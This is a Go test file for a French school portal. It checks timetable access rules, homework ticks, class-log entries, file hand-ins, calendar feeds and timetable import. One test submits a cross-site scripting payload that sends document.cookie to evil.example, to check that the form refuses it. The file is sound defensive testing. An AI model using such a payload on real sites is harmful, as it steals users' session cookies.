package web_test

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"log/slog"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	ics "github.com/emersion/go-ical"

	"cartable/internal/access"
	"cartable/internal/classlog"
	"cartable/internal/db"
	"cartable/internal/dbtest"
	"cartable/internal/demo"
	"cartable/internal/files"
	"cartable/internal/timetable"
	"cartable/internal/web"
)

// ttNow is the fixed "now" of these tests: Monday 30 November 2026, 09:30
// in Paris, a week B of the demo school year.
var ttNow = time.Date(2026, 11, 30, 9, 30, 0, 0, timetable.Paris)

// newTTEnv is newEnv with the demo timetable placed around ttNow and the
// clock set to it.
func newTTEnv(t testing.TB, students int) *env { return newTTEnvAt(t, students, ttNow) }

// newTTEnvAt is newTTEnv around another day and time.
func newTTEnvAt(t testing.TB, students int, ttNow time.Time) *env {
	t.Helper()
	ctx := context.Background()
	d := dbtest.Open(t)
	var accts []demo.Account
	err := d.Tx(ctx, func(tx *db.Tx) (err error) {
		if accts, err = demo.Generate(ctx, access.System("test"), tx, demo.Options{Seed: 1, Students: students}); err != nil {
			return err
		}
		return demo.GenerateTimetable(ctx, access.System("test"), tx, demo.TimetableOptions{Seed: 1, Today: ttNow.Format("2006-01-02")})
	})
	if err != nil {
		t.Fatalf("demo: %v", err)
	}
	if err := d.Analyze(ctx); err != nil {
		t.Fatal(err)
	}
	store, err := files.Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	store.MaxSize = 64 << 10 // small, so that the limit is cheap to cross
	log := slog.New(slog.DiscardHandler)
	if os.Getenv("CARTABLE_TEST_LOG") != "" {
		log = slog.New(slog.NewTextHandler(os.Stderr, nil))
	}
	s, err := web.New(web.Options{DB: d, BaseURL: "http://127.0.0.1", Log: log, Files: store})
	if err != nil {
		t.Fatal(err)
	}
	c := &clock{at: ttNow}
	s.Sessions.Now = c.Now
	s.Now = c.Now
	s.Policy.SetClock(c.Now)
	ts := httptest.NewServer(s.Handler())
	t.Cleanup(ts.Close)
	return &env{t: t, db: d, srv: s, ts: ts, accounts: accts, clock: c}
}

func (e *env) query(q string, args ...any) []string {
	e.t.Helper()
	rows, err := e.db.Query(context.Background(), q, args...)
	if err != nil {
		e.t.Fatal(err)
	}
	defer rows.Close()
	var out []string
	for rows.Next() {
		var s string
		if err := rows.Scan(&s); err != nil {
			e.t.Fatal(err)
		}
		out = append(out, s)
	}
	return out
}

func (e *env) login(id string) string {
	e.t.Helper()
	l := e.query(`SELECT login FROM people WHERE id = ?`, id)
	if len(l) != 1 {
		e.t.Fatalf("no person %s", id)
	}
	return l[0]
}

// upload posts a multipart form with one file.
func (b *browser) upload(path string, fields map[string]string, field, name string, content []byte) response {
	b.e.t.Helper()
	var buf bytes.Buffer
	w := multipart.NewWriter(&buf)
	for k, v := range fields {
		w.WriteField(k, v)
	}
	if field != "" {
		fw, _ := w.CreateFormFile(field, name)
		fw.Write(content)
	}
	w.Close()
	req, err := http.NewRequest("POST", b.e.ts.URL+path, &buf)
	if err != nil {
		b.e.t.Fatal(err)
	}
	req.Header.Set("Content-Type", w.FormDataContentType())
	resp, err := b.client.Do(req)
	if err != nil {
		b.e.t.Fatal(err)
	}
	defer resp.Body.Close()
	raw, _ := io.ReadAll(resp.Body)
	return response{status: resp.StatusCode, header: resp.Header, body: string(raw)}
}

func TestTimetableViewsAndAccess(t *testing.T) {
	e := newTTEnv(t, 120)
	parent := e.account(func(a demo.Account) bool { return a.Profile == "relative" && len(a.Children) == 2 })
	child := e.person(parent.Children[0])
	other := e.account(func(a demo.Account) bool {
		return a.Profile == "student" && !slices.Contains(parent.Children, a.Login)
	})

	b := e.signIn(parent.Login)
	r := b.get("/timetable?child=" + child.ID)
	if r.status != 200 || !strings.Contains(r.body, child.FirstName) || !strings.Contains(r.body, `class="lesson`) {
		t.Fatalf("relative's timetable of a child: %d", r.status)
	}
	if !strings.Contains(r.body, "Semaine B") {
		t.Error("the week label (A/B) is missing")
	}
	for _, path := range []string{"/timetable?child=" + e.person(other.Login).ID, "/timetable/people/" + e.person(other.Login).ID} {
		if r := b.get(path); r.status != 404 {
			t.Errorf("relative opens another family's timetable %s: %d", path, r.status)
		}
	}
	// Day view, next week, printable stylesheet.
	if r := b.get("/timetable?day=2026-12-01&child=" + child.ID); r.status != 200 || !strings.Contains(r.body, "mardi 1er décembre") {
		t.Errorf("day view: %d", r.status)
	}

	st := e.signIn(other.Login)
	if r := st.get("/timetable"); r.status != 200 || !strings.Contains(r.body, `class="lesson`) {
		t.Fatalf("student's own timetable: %d", r.status)
	}
	if r := st.get("/timetable/people/" + child.ID); r.status != 404 {
		t.Errorf("student opens a classmate's timetable: %d", r.status)
	}
	room := e.query(`SELECT id FROM tt_rooms ORDER BY code LIMIT 1`)[0]
	if r := st.get("/timetable/rooms/" + room); r.status != 404 {
		t.Errorf("student opens a room timetable: %d", r.status)
	}
	head := e.account(has("head"))
	h := e.signIn(head.Login)
	if r := h.get("/timetable/rooms/" + room); r.status != 200 {
		t.Errorf("head opens a room timetable: %d", r.status)
	}
	if r := h.get("/timetable/people/" + child.ID); r.status != 200 {
		t.Errorf("head opens a student's timetable: %d", r.status)
	}

	// A cancelled lesson is told in words, on the class view and at home.
	cancelled := e.query(`SELECT a.class_id FROM tt_changes c JOIN tt_slot_audiences a ON a.slot_id = c.slot_id
		JOIN classes k ON k.id = a.class_id JOIN establishments x ON x.id = k.establishment_id
		WHERE c.cancelled AND x.uai = ? AND c.on_date BETWEEN '2026-11-30' AND '2026-12-05' ORDER BY 1 LIMIT 1`, demo.MainUAI)
	if len(cancelled) == 0 {
		t.Fatal("the demo has no cancelled lesson this week")
	}
	r = h.get("/timetable/classes/" + cancelled[0])
	if r.status != 200 || !strings.Contains(r.body, "Cours annulé — motif : professeur absent") {
		t.Errorf("the cancellation is not explained in words: %d", r.status)
	}
	// A teacher sees the classes taught, not the others.
	teacher := e.query(`SELECT teacher_id FROM teaching_assignments WHERE class_id IS NOT NULL ORDER BY id LIMIT 1`)[0]
	taught := e.query(`SELECT class_id FROM teaching_assignments WHERE teacher_id = ? AND class_id IS NOT NULL`, teacher)
	notTaught := e.query(`SELECT id FROM classes c WHERE establishment_id = (SELECT establishment_id FROM classes WHERE id = ?)
		AND NOT EXISTS (SELECT 1 FROM teaching_assignments a WHERE a.class_id = c.id AND a.teacher_id = ?)
		AND NOT EXISTS (SELECT 1 FROM head_teachers x WHERE x.class_id = c.id AND x.teacher_id = ?)`, taught[0], teacher, teacher)
	tb := e.signIn(e.login(teacher))
	if r := tb.get("/timetable/classes/" + taught[0]); r.status != 200 {
		t.Errorf("teacher opens a class taught: %d", r.status)
	}
	if len(notTaught) > 0 {
		if r := tb.get("/timetable/classes/" + notTaught[0]); r.status != 404 {
			t.Errorf("teacher opens a class not taught: %d", r.status)
		}
	}
	if r := tb.get("/"); !strings.Contains(r.body, `<h2 id="b-today">`) {
		t.Error("no day's lessons on the teacher's home page")
	}
}

var hwRe = regexp.MustCompile(`id="tick-([a-z2-7]+)"`)

// A student ticks a homework; their relatives see the tick, nobody else.
func TestHomeworkTicksSeenByRelativesOnly(t *testing.T) {
	e := newTTEnv(t, 120)
	parent := e.account(func(a demo.Account) bool { return a.Profile == "relative" && len(a.Children) >= 1 })
	stu := e.account(func(a demo.Account) bool { return a.Login == parent.Children[0] })
	s := e.signIn(stu.Login)
	r := s.get("/homework")
	m := hwRe.FindStringSubmatch(r.body)
	if r.status != 200 || m == nil {
		t.Fatalf("student's homework list: %d, no tick button", r.status)
	}
	hw := m[1]
	r = s.post("/homework/"+hw+"/done", url.Values{"csrf": {s.csrf()}, "done": {"1"}})
	if r.status != http.StatusSeeOther {
		t.Fatalf("tick: %d %.200s", r.status, r.body)
	}
	if r := s.get("/homework"); !strings.Contains(r.body, `id="undo-`+hw+`"`) {
		t.Fatal("the tick did not stay")
	}
	p := e.signIn(parent.Login)
	r = p.get("/homework?child=" + e.person(stu.Login).ID)
	i := strings.Index(r.body, `id="hw-`+hw+`"`)
	if r.status != 200 || i < 0 || !strings.Contains(r.body[i:i+200], `class="hw done"`) && !strings.Contains(r.body[max(0, i-40):i+40], "done") {
		t.Fatalf("the relative does not see the tick: %d", r.status)
	}
	if strings.Contains(r.body, `action="/homework/`+hw+`/done"`) {
		t.Error("the relative may tick for the child")
	}
	// A relative cannot tick either, even by forging the request.
	if r := p.post("/homework/"+hw+"/done", url.Values{"csrf": {p.csrf()}, "done": {"0"}}); r.status != 404 {
		t.Errorf("relative ticks: %d", r.status)
	}
	// A classmate sees the same homework, not ticked.
	// (one who shares the homework's class or group)
	mate := e.query(`SELECT x.student_id FROM homework h JOIN (SELECT class_id AS cid, '' AS gid, student_id FROM enrolments
		UNION ALL SELECT '', group_id, student_id FROM group_members) x ON x.cid = COALESCE(h.class_id, '-') OR x.gid = COALESCE(h.group_id, '-')
		WHERE h.id = ? AND x.student_id <> ? ORDER BY 1 LIMIT 1`, hw, e.person(stu.Login).ID)
	if len(mate) == 1 {
		mb := e.signIn(e.login(mate[0]))
		if r := mb.get("/homework"); !strings.Contains(r.body, `id="tick-`+hw+`"`) {
			t.Error("a classmate sees someone else's tick (or not the homework)")
		}
	}
	// The teacher's pages never show done-ticks.
	author := e.query(`SELECT e.author_id FROM homework h JOIN classlog_entries e ON e.id = h.entry_id WHERE h.id = ?`, hw)[0]
	tb := e.signIn(e.login(author))
	for _, path := range []string{"/homework", "/homework/" + hw + "/hand-ins"} {
		if r := tb.get(path); strings.Contains(r.body, "fait ✓") {
			t.Errorf("%s shows a done-tick to the teacher", path)
		}
	}
}

func TestClassLogEntryFormKeepsWhatWasTyped(t *testing.T) {
	e := newTTEnv(t, 120)
	// A lesson of next Tuesday with a single class.
	row := e.query(`SELECT s.id || '|' || t.teacher_id || '|' || a.class_id FROM tt_slots s JOIN tt_slot_teachers t ON t.slot_id = s.id
		JOIN tt_slot_audiences a ON a.slot_id = s.id WHERE s.weekday = 2 AND a.class_id IS NOT NULL AND s.alternation_id IS NULL ORDER BY s.id LIMIT 1`)[0]
	parts := strings.Split(row, "|")
	slot, teacher, class := parts[0], parts[1], parts[2]
	lesson := "/lessons/" + slot + "/2026-12-01"
	tb := e.signIn(e.login(teacher))
	if r := tb.get(lesson); r.status != 200 || !strings.Contains(r.body, `name="title"`) {
		t.Fatalf("lesson page of its teacher: %d", r.status)
	}
	typed := `Voir <b>ceci</b><script>document.location="https://evil.example/?"+document.cookie</script>`
	r := tb.upload(lesson+"/log", map[string]string{"csrf": tb.csrf(), "title": "Les fractions", "category": "lesson",
		"body": typed, "hw0_description": "Exercices 1 à 3", "hw0_due": "2026-12-03", "hw0_minutes": "20", "hw0_handin": "upload",
		"hw0_lesson": ""}, "", "", nil)
	if r.status != http.StatusUnprocessableEntity || !strings.Contains(r.body, "contient un script") ||
		!strings.Contains(r.body, "Les fractions") || !strings.Contains(r.body, "Exercices 1 à 3") ||
		!strings.Contains(r.body, "&lt;script&gt;document.location") {
		t.Fatalf("script refused with the typed text kept: %d %.400s", r.status, r.body)
	}
	if n := len(e.query(`SELECT id FROM classlog_entries WHERE slot_id = ? AND lesson_date = '2026-12-01'`, slot)); n != 0 {
		t.Fatal("a refused entry was saved")
	}
	// A file of a refused type: refused, text kept.
	r = tb.upload(lesson+"/log", map[string]string{"csrf": tb.csrf(), "title": "Les fractions", "category": "lesson",
		"body": "Cours", "hw0_description": "", "hw0_due": "", "hw0_handin": "none"}, "attachment", "page.html", []byte("<html><script></script>"))
	if r.status != http.StatusUnprocessableEntity || !strings.Contains(r.body, "pas d&#39;un type accepté") || !strings.Contains(r.body, "Les fractions") {
		t.Fatalf("refused attachment: %d %s", r.status, regexp.MustCompile(`(?s)role="alert".*?</div>`).FindString(r.body))
	}
	// A draft, then scheduled for 1 December 18:00, then read by the class.
	r = tb.upload(lesson+"/log", map[string]string{"csrf": tb.csrf(), "title": "Les fractions", "category": "lesson",
		"body": "<p>Vu en <em>classe</em></p>", "draft": "1", "hw0_description": "Exercices 1 à 3", "hw0_due": "2026-12-03",
		"hw0_minutes": "20", "hw0_handin": "upload"}, "attachment", "fiche.pdf", []byte("%PDF-1.4\nfiche\n%%EOF"))
	if r.status != http.StatusSeeOther {
		t.Fatalf("save draft: %d %.300s", r.status, r.body)
	}
	entry := e.query(`SELECT id FROM classlog_entries WHERE slot_id = ? AND lesson_date = '2026-12-01'`, slot)[0]
	student := e.query(`SELECT student_id FROM enrolments WHERE class_id = ? ORDER BY 1 LIMIT 1`, class)[0]
	sb := e.signIn(e.login(student))
	if r := sb.get("/classlog/classes/" + class + "?to=2026-12-05"); strings.Contains(r.body, "Les fractions") {
		t.Fatal("a draft is visible to the class")
	}
	r = tb.upload(lesson+"/log", map[string]string{"csrf": tb.csrf(), "id": entry, "title": "Les fractions", "category": "lesson",
		"body": "<p>Vu en <em>classe</em></p>", "publish_at": "2026-12-01T18:00", "hw0_description": "Exercices 1 à 3",
		"hw0_due": "2026-12-03", "hw0_minutes": "20", "hw0_handin": "upload"}, "", "", nil)
	if r.status != http.StatusSeeOther {
		t.Fatalf("schedule: %d %.300s", r.status, r.body)
	}
	if r := sb.get("/classlog/classes/" + class + "?to=2026-12-05"); strings.Contains(r.body, "Les fractions") {
		t.Fatal("a scheduled entry is visible before its time")
	}
	e.clock.Add(33 * time.Hour) // Tuesday 1 December, 18:30 (sessions have expired meanwhile)
	sb, tb = e.signIn(e.login(student)), e.signIn(e.login(teacher))
	r = sb.get("/classlog/classes/" + class + "?to=2026-12-05")
	if !strings.Contains(r.body, "Les fractions") || !strings.Contains(r.body, "<em>classe</em>") || !strings.Contains(r.body, "fiche.pdf") {
		t.Fatalf("published entry not shown to the class: %d", r.status)
	}
	// The attachment opens for the class, not for another class's student.
	file := e.query(`SELECT file_id FROM classlog_attachments WHERE entry_id = ?`, entry)[0]
	if r := sb.get("/files/" + file); r.status != 200 || !strings.HasPrefix(r.body, "%PDF") || r.header.Get("Content-Disposition") == "" {
		t.Errorf("attachment download: %d", r.status)
	}
	outsider := e.query(`SELECT e.student_id FROM enrolments e JOIN classes c ON c.id = e.class_id
		WHERE e.class_id <> ? AND c.establishment_id = (SELECT establishment_id FROM classes WHERE id = ?)
		AND NOT EXISTS (SELECT 1 FROM enrolments x WHERE x.student_id = e.student_id AND x.class_id = ?) ORDER BY 1 LIMIT 1`, class, class, class)[0]
	ob := e.signIn(e.login(outsider))
	if r := ob.get("/files/" + file); r.status != 404 {
		t.Errorf("another class downloads the attachment: %d", r.status)
	}
	if r := ob.get("/classlog/classes/" + class); r.status != 404 {
		t.Errorf("another class reads the class log: %d", r.status)
	}

	// Hand-in: too large, refused type, then accepted; the teacher sees who
	// handed in and who is late.
	hw := e.query(`SELECT id FROM homework WHERE entry_id = ?`, entry)[0]
	big := append([]byte("%PDF-1.4\n"), bytes.Repeat([]byte("x"), 70<<10)...)
	r = sb.upload("/homework/"+hw+"/hand-in", map[string]string{"csrf": sb.csrf()}, "file", "devoir.pdf", big)
	if r.status != http.StatusUnprocessableEntity || !strings.Contains(r.body, "trop volumineux") {
		t.Errorf("too large a hand-in: %d %.300s", r.status, r.body)
	}
	// Far too large: refused from its announced length, before it is read.
	huge := append([]byte("%PDF-1.4\n"), bytes.Repeat([]byte("x"), 400<<10)...)
	r = sb.upload("/homework/"+hw+"/hand-in", map[string]string{"csrf": sb.csrf()}, "file", "devoir.pdf", huge)
	if r.status != http.StatusRequestEntityTooLarge || !strings.Contains(r.body, "trop volumineux") {
		t.Errorf("far too large a hand-in: %d", r.status)
	}
	r = sb.upload("/homework/"+hw+"/hand-in", map[string]string{"csrf": sb.csrf()}, "file", "devoir.exe", []byte("MZ\x90\x00"))
	if r.status != http.StatusUnprocessableEntity || !strings.Contains(r.body, "devoir.exe") {
		t.Errorf("refused type: %d", r.status)
	}
	r = sb.upload("/homework/"+hw+"/hand-in", map[string]string{"csrf": sb.csrf()}, "file", "devoir.pdf", []byte("%PDF-1.4\nmon devoir\n%%EOF"))
	if r.status != http.StatusSeeOther {
		t.Fatalf("hand-in: %d %.300s", r.status, r.body)
	}
	if r := ob.upload("/homework/"+hw+"/hand-in", map[string]string{"csrf": ob.csrf()}, "file", "x.pdf", []byte("%PDF-1.4\n")); r.status != 404 {
		t.Errorf("a student of another class hands in: %d", r.status)
	}
	e.clock.Add(3 * 24 * time.Hour) // after the due day
	sb, tb = e.signIn(e.login(student)), e.signIn(e.login(teacher))
	r = tb.get("/homework/" + hw + "/hand-ins")
	if r.status != 200 || !strings.Contains(r.body, "remis le") || !strings.Contains(r.body, "non remis, en retard") {
		t.Fatalf("hand-in tracking: %d", r.status)
	}
	sub := e.query(`SELECT file_id FROM homework_submissions WHERE homework_id = ?`, hw)[0]
	if r := tb.get("/files/" + sub); r.status != 200 || !strings.Contains(r.body, "mon devoir") {
		t.Errorf("teacher opens handed-in work: %d", r.status)
	}
	mate := e.query(`SELECT student_id FROM enrolments WHERE class_id = ? AND student_id <> ? ORDER BY 1 LIMIT 1`, class, student)[0]
	// The student sees their own hand-in only, not the class's.
	if r := sb.get("/homework/" + hw + "/hand-ins"); r.status != 200 || !strings.Contains(r.body, `href="/files/`+sub+`"`) ||
		strings.Contains(r.body, e.row(mate).LastName+" "+e.row(mate).FirstName) {
		t.Errorf("a student opens the hand-in list: %d", r.status)
	}
	if r := e.signIn(e.login(mate)).get("/files/" + sub); r.status != 404 {
		t.Errorf("a classmate opens someone's handed-in work: %d", r.status)
	}

	// Copy to another class the teacher teaches the same subject to.
	target := e.query(`SELECT a.class_id FROM teaching_assignments a JOIN tt_slots s ON s.subject_id = a.subject_id AND s.id = ?
		WHERE a.teacher_id = ? AND a.class_id IS NOT NULL AND a.class_id <> ? ORDER BY 1 LIMIT 1`, slot, teacher, class)
	if len(target) == 1 {
		r = tb.post("/classlog/entries/"+entry+"/copy", url.Values{"csrf": {tb.csrf()}, "target": {"c:" + target[0]}, "date": {"2026-12-02"}})
		if r.status != http.StatusSeeOther || len(e.query(`SELECT id FROM classlog_entries WHERE class_id = ? AND title = 'Les fractions'`, target[0])) != 1 {
			t.Errorf("copy: %d", r.status)
		}
	}
	if r := sb.post("/classlog/entries/"+entry+"/copy", url.Values{"csrf": {sb.csrf()}, "target": {"c:" + class}}); r.status != 404 {
		t.Errorf("a student copies an entry: %d", r.status)
	}
}

func TestCalendarFeed(t *testing.T) {
	e := newTTEnv(t, 120)
	parent := e.account(func(a demo.Account) bool { return a.Profile == "relative" && len(a.Children) == 2 })
	p := e.signIn(parent.Login)
	r := p.createFeed("Téléphone")
	m := regexp.MustCompile(`value="(http://[^"]+/feeds/[A-Za-z0-9_-]+\.ics)"`).FindStringSubmatch(r.body)
	if r.status != 200 || m == nil {
		t.Fatalf("create feed: %d", r.status)
	}
	u, _ := url.Parse(m[1])
	anon := e.browser() // a calendar app: no session
	r = anon.get(u.Path)
	if r.status != 200 || !strings.HasPrefix(r.header.Get("Content-Type"), "text/calendar") {
		t.Fatalf("feed: %d %s", r.status, r.header.Get("Content-Type"))
	}
	cal, err := ics.NewDecoder(strings.NewReader(r.body)).Decode()
	if err != nil {
		t.Fatalf("the feed does not parse: %v", err)
	}
	if len(cal.Children) == 0 || cal.Children[0].Name != ics.CompTimezone {
		t.Fatal("no VTIMEZONE first")
	}
	if tzid := cal.Children[0].Props.Get(ics.PropTimezoneID); tzid == nil || tzid.Value != "Europe/Paris" {
		t.Fatal("VTIMEZONE is not Europe/Paris")
	}
	events := map[string]ics.Event{}
	for _, ev := range cal.Events() {
		uid, _ := ev.Props.Text(ics.PropUID)
		if _, dup := events[uid]; dup {
			t.Fatalf("UID %s twice", uid)
		}
		events[uid] = ev
	}
	// Event by event, against the timetable of each child for the year.
	ctx := context.Background()
	lessons, cancelled, homework := 0, 0, 0
	for _, login := range parent.Children {
		child := e.person(login)
		ls, err := timetable.Lessons(ctx, access.System("test"), e.db, timetable.Target{Kind: timetable.TargetStudent, ID: child.ID}, "2026-09-01", "2027-07-03")
		if err != nil {
			t.Fatal(err)
		}
		for _, l := range ls {
			uid := l.Slot.ID + "-" + strings.ReplaceAll(l.Date, "-", "") + "@cartable"
			ev, ok := events[uid]
			if !ok {
				t.Fatalf("lesson %s missing from the feed", uid)
			}
			lessons++
			start, err := ev.DateTimeStart(time.UTC)
			if err != nil || !start.Equal(l.Start) {
				t.Fatalf("%s: DTSTART %v (%v), want %v", uid, start, err, l.Start)
			}
			end, _ := ev.DateTimeEnd(time.UTC)
			if !end.Equal(l.End) {
				t.Fatalf("%s: DTEND %v, want %v", uid, end, l.End)
			}
			if p := ev.Props.Get(ics.PropDateTimeStart); p.Params.Get(ics.ParamTimezoneID) != "Europe/Paris" {
				t.Fatalf("%s: DTSTART not in Europe/Paris", uid)
			}
			status, _ := ev.Props.Text(ics.PropStatus)
			if l.Cancelled() {
				cancelled++
				if status != "CANCELLED" {
					t.Fatalf("%s is cancelled but has STATUS:%s", uid, status)
				}
			} else if status != "CONFIRMED" {
				t.Fatalf("%s: STATUS:%s", uid, status)
			}
			summary, _ := ev.Props.Text(ics.PropSummary)
			if !strings.Contains(summary, l.Slot.SubjectName) || !strings.HasPrefix(strings.TrimPrefix(summary, "ANNULÉ — "), child.FirstName) {
				t.Fatalf("%s: SUMMARY %q", uid, summary)
			}
		}
		// Every homework of the child (as the system reads it) is in the feed.
		cl := &classlog.Service{DB: e.db, Now: func() time.Time { return ttNow }}
		hw, err := cl.HomeworkOfStudent(ctx, access.System("test"), child.ID, "2026-09-01", "2027-07-03")
		if err != nil {
			t.Fatal(err)
		}
		for _, h := range hw {
			ev, ok := events["hw-"+h.ID+"@cartable"]
			if !ok {
				t.Fatalf("homework %s missing", h.ID)
			}
			homework++
			if d := ev.Props.Get(ics.PropDateTimeStart); d.ValueType() != ics.ValueDate || d.Value != strings.ReplaceAll(h.DueDate, "-", "") {
				t.Fatalf("homework %s: DTSTART %v", h.ID, d.Value)
			}
		}
	}
	if lessons+homework != len(events) || cancelled == 0 && len(e.query(`SELECT slot_id FROM tt_changes WHERE cancelled`)) == 0 {
		t.Errorf("%d events, %d lessons + %d homework", len(events), lessons, homework)
	}
	t.Logf("feed: %d lessons (%d cancelled), %d homework, %d bytes", lessons, cancelled, homework, len(r.body))
	// Lines are folded at 75 octets and end in CRLF.
	for _, line := range strings.Split(strings.TrimSuffix(r.body, "\r\n"), "\r\n") {
		if len(line) > 75 {
			t.Fatalf("line of %d octets: %q", len(line), line)
		}
	}
	// ETag: the same feed again is "not modified".
	etag := r.header.Get("ETag")
	if r2 := anon.do("GET", u.Path, nil, map[string]string{"If-None-Match": etag}); etag == "" || r2.status != http.StatusNotModified {
		t.Errorf("If-None-Match: %d (ETag %q)", r2.status, etag)
	}
	// A cancelled lesson for one child is in the feed at once.
	child := e.person(parent.Children[0])
	ls, _ := timetable.Lessons(ctx, access.System("test"), e.db, timetable.Target{Kind: timetable.TargetStudent, ID: child.ID}, "2026-12-07", "2026-12-11")
	err = timetable.SetChange(ctx, access.System("test"), e.db, timetable.ChangeInput{SlotID: ls[0].Slot.ID, OnDate: ls[0].Date,
		Cancelled: true, Reason: "strike"}, ttNow)
	if err != nil {
		t.Fatal(err)
	}
	r3 := anon.do("GET", u.Path, nil, map[string]string{"If-None-Match": etag})
	if r3.status != 200 || !strings.Contains(r3.body, "grève") {
		t.Errorf("after a change: %d", r3.status)
	}
	// Revoked: refused at once.
	id := e.query(`SELECT id FROM calendar_feeds WHERE person_id = ?`, e.person(parent.Login).ID)[0]
	if r := p.post("/calendar/feeds/"+id+"/revoke", url.Values{"csrf": {p.csrf()}}); r.status != http.StatusSeeOther {
		t.Fatalf("revoke: %d", r.status)
	}
	if r := anon.get(u.Path); r.status != 404 {
		t.Errorf("revoked feed: %d", r.status)
	}
	// Another person cannot revoke it, nor guess one.
	st := e.signIn(e.account(func(a demo.Account) bool { return a.Profile == "student" }).Login)
	if r := st.post("/calendar/feeds/"+id+"/revoke", url.Values{"csrf": {st.csrf()}}); r.status != 404 {
		t.Errorf("revoke someone else's feed: %d", r.status)
	}
	if r := anon.get("/feeds/" + strings.Repeat("A", 43) + ".ics"); r.status != 404 {
		t.Errorf("made-up token: %d", r.status)
	}
}

func TestTimetableImportAndEditing(t *testing.T) {
	e := newTTEnv(t, 60)
	head := e.account(has("head"))
	h := e.signIn(head.Login)
	est := e.query(`SELECT id FROM establishments WHERE uai = ?`, demo.MainUAI)[0]
	before := e.query(`SELECT COUNT(*) FROM tt_slots WHERE establishment_id = ?`, est)[0]
	bad := "jour;début;durée;matière;enseignant;classe;salle\nlundi;08:00;55;MATHS;personne.inconnue;6A;101\nlundi;25:00;55;MATHS;;9Z;Z99\n"
	r := h.upload("/timetable/manage/"+est+"/import", map[string]string{"csrf": h.csrf()}, "file", "edt.csv", []byte(bad))
	if r.status != http.StatusUnprocessableEntity || !strings.Contains(r.body, "Ligne 2, Enseignant : enseignant inconnu « personne.inconnue »") ||
		!strings.Contains(r.body, "Ligne 3, Heure de début : heure impossible « 25:00 »") || !strings.Contains(r.body, "classe inconnue « 9Z »") {
		t.Fatalf("bad import: %d %s", r.status, regexp.MustCompile(`(?s)<main.*</main>`).FindString(r.body))
	}
	if after := e.query(`SELECT COUNT(*) FROM tt_slots WHERE establishment_id = ?`, est)[0]; after != before {
		t.Fatalf("a refused import changed the timetable: %s → %s", before, after)
	}
	// Teachers and students may not manage the timetable.
	st := e.signIn(e.account(func(a demo.Account) bool { return a.Profile == "student" }).Login)
	if r := st.get("/timetable/manage/" + est); r.status != 404 {
		t.Errorf("student opens the timetable management: %d", r.status)
	}
	// Adding a lesson that overlaps: refused, typed values kept.
	class := e.query(`SELECT id FROM classes WHERE establishment_id = ? ORDER BY code LIMIT 1`, est)[0]
	row := e.query(`SELECT s.subject_id || '|' || t.teacher_id || '|' || s.weekday || '|' || s.start_min FROM tt_slots s
		JOIN tt_slot_teachers t ON t.slot_id = s.id JOIN tt_slot_audiences a ON a.slot_id = s.id WHERE a.class_id = ? ORDER BY s.id LIMIT 1`, class)[0]
	p := strings.Split(row, "|")
	var start int
	fmt.Sscan(p[3], &start)
	r = h.post("/timetable/manage/"+est+"/slots", url.Values{"csrf": {h.csrf()}, "day": {p[2]}, "start": {timetable.HHMM(start)},
		"duration": {"55"}, "subject": {p[0]}, "teacher": {p[1]}, "audience": {"c:" + class}})
	if r.status != http.StatusUnprocessableEntity || !strings.Contains(r.body, "chevauche") || !strings.Contains(r.body, `value="`+timetable.HHMM(start)+`"`) {
		t.Fatalf("overlapping lesson: %d", r.status)
	}
	// An exceptional lesson on a Saturday morning is accepted and shown.
	r = h.post("/timetable/manage/"+est+"/slots", url.Values{"csrf": {h.csrf()}, "date": {"2026-12-05"}, "start": {"09:00"},
		"duration": {"120"}, "subject": {p[0]}, "teacher": {p[1]}, "audience": {"c:" + class}})
	if r.status != http.StatusSeeOther {
		t.Fatalf("exceptional lesson: %d", r.status)
	}
	if r := h.get("/timetable/classes/" + class); !strings.Contains(r.body, "Cours exceptionnel") {
		t.Error("the exceptional lesson is not shown as such")
	}
	// A change through the lesson page, with a bad time: refused and kept.
	slot := e.query(`SELECT s.id FROM tt_slots s JOIN tt_slot_audiences a ON a.slot_id = s.id WHERE a.class_id = ? AND s.weekday = 3 AND s.alternation_id IS NULL ORDER BY s.id LIMIT 1`, class)[0]
	path := "/lessons/" + slot + "/2026-12-02/change"
	r = h.post(path, url.Values{"csrf": {h.csrf()}, "new_start": {"31:00"}, "note": {"Sortie au musée"}})
	if r.status != http.StatusUnprocessableEntity || !strings.Contains(r.body, "heure impossible « 31:00 »") || !strings.Contains(r.body, "Sortie au musée") {
		t.Fatalf("bad change: %d", r.status)
	}
	r = h.post(path, url.Values{"csrf": {h.csrf()}, "cancelled": {"1"}, "reason": {"school-trip"}})
	if r.status != http.StatusSeeOther {
		t.Fatalf("cancel: %d %.300s", r.status, r.body)
	}
	if n := e.query(`SELECT kind FROM notification_outbox WHERE subject = ?`, "lesson:"+slot+"/2026-12-02"); len(n) != 1 || n[0] != timetable.EventLessonChanged {
		t.Errorf("outbox events: %v", n)
	}
	if r := st.post(path, url.Values{"csrf": {st.csrf()}, "cancelled": {"1"}, "reason": {"strike"}}); r.status != 404 {
		t.Errorf("a student changes a lesson: %d", r.status)
	}
}
